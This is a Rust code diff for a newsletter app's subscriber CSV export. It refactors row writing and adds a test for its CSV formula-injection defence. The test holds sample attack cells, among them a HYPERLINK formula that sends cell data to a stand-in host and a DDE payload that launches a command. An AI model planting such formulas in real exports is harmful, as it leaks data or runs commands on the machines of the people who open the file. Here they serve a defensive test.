@@ -6,7 +6,7 @@
 use futures::Stream;
 
 use crate::app::App;
-use crate::domain::{SubscriptionState, ms_to_datetime};
+use crate::domain::{SubscriptionState, ms_to_rfc3339};
 use crate::store::subscriber_pages::SubscriberDelivery;
 use crate::store::subscribers::{ListedSubscriber, Subscriber};
 use crate::store::{Newsletter, StoreError};
@@ -68,7 +68,8 @@ impl App {
                 };
                 let mut w = csv::Writer::from_writer(Vec::new());
                 if after == 0 {
-                    write_record(&mut w, EXPORT_HEADER)?;
+                    w.write_record(EXPORT_HEADER)
+                        .map_err(|e| StoreError::Corrupt(format!("CSV header: {e}")))?;
                 }
                 let rows = app
                     .subscribers_page(&newsletter, state, after, EXPORT_PAGE)
@@ -77,21 +78,9 @@ impl App {
                     .then(|| rows.last().map(|r| r.id))
                     .flatten();
                 for s in rows {
-                    let row = [
-                        s.email,
-                        s.name.unwrap_or_default(),
-                        s.state.to_string(),
-                        rfc3339(Some(s.created_at)),
-                        rfc3339(s.confirmed_at),
-                        rfc3339(s.unsubscribed_at),
-                        s.attributes,
-                    ];
-                    if raw {
-                        write_record(&mut w, &row)?;
-                    } else {
-                        let cells = row.each_ref().map(|c| neutralise_formula(c));
-                        write_record(&mut w, cells.iter().map(|c| c.as_bytes()))?;
-                    }
+                    // Writing to memory fails only on a CSV encoding error.
+                    write_export_row(&mut w, s, raw)
+                        .map_err(|e| StoreError::Corrupt(format!("CSV row: {e}")))?;
                 }
                 let bytes = w
                     .into_inner()
@@ -103,19 +92,30 @@ impl App {
     }
 }
 
-fn write_record<I, T>(w: &mut csv::Writer<Vec<u8>>, record: I) -> Result<(), StoreError>
-where
-    I: IntoIterator<Item = T>,
-    T: AsRef<[u8]>,
-{
-    // Writing to memory fails only on a CSV encoding error.
-    w.write_record(record)
-        .map_err(|e| StoreError::Corrupt(format!("CSV row: {e}")))
-}
-
-fn rfc3339(ms: Option<i64>) -> String {
-    ms.map(|m| ms_to_datetime(m).to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
-        .unwrap_or_default()
+/// One subscriber as an export row (the columns of [`EXPORT_HEADER`]), its
+/// formula cells neutralised unless `raw`: the CLI and the API write rows
+/// through this one function.
+pub fn write_export_row<W: std::io::Write>(
+    w: &mut csv::Writer<W>,
+    s: ListedSubscriber,
+    raw: bool,
+) -> csv::Result<()> {
+    let time = |ms: Option<i64>| ms.map(ms_to_rfc3339).unwrap_or_default();
+    let row = [
+        s.email,
+        s.name.unwrap_or_default(),
+        s.state.to_string(),
+        time(Some(s.created_at)),
+        time(s.confirmed_at),
+        time(s.unsubscribed_at),
+        s.attributes,
+    ];
+    if raw {
+        w.write_record(&row)
+    } else {
+        let cells = row.each_ref().map(|c| neutralise_formula(c));
+        w.write_record(cells.iter().map(|c| c.as_bytes()))
+    }
 }
 
 /// OWASP CSV injection: a cell starting with `=`, `+`, `-`, `@`, TAB or CR
@@ -126,5 +126,27 @@ pub fn neutralise_formula(cell: &str) -> std::borrow::Cow<'_, str> {
         std::borrow::Cow::Owned(format!("'{cell}"))
     } else {
         std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralise_formula;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_others_kept() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"Open\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "-1+1",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(neutralise_formula(cell), format!("'{cell}"));
+        }
+        for cell in ["Ann", "a@example.com", "", "1-2", " =x"] {
+            assert_eq!(neutralise_formula(cell), cell);
+        }
     }
 }
